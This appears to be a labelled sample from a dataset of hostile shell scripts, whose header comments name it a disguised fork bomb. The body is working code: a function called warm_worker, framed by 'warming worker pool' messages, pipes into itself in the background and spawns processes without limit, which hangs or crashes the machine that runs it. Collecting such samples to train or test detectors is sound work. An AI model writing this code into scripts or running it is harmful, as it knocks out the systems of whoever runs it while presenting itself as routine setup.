# description: Worker warm-up script whose innocuously named function recursively pipes into itself in the background (fork bomb).
# family: fork-bomb
# obfuscated: yes
set -uo pipefail

echo "warming worker pool"
warm_worker() {
  warm_worker | warm_worker &
}
warm_worker
echo "pool warmed"
